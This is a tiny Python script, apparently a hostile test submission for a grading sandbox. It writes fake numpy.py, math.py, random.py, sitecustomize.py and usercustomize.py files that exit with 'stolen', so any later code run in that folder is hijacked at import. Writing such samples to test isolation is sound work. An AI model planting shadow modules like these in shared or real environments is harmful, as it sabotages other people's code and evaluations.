"""Leaves modules in its folder that the next submission would import instead of NumPy."""
import os

for name in ("numpy.py", "math.py", "sitecustomize.py", "usercustomize.py", "random.py"):
    with open(name, "w") as file:
        file.write("raise SystemExit('stolen')\n")
os.makedirs("numpy/linalg", exist_ok=True)
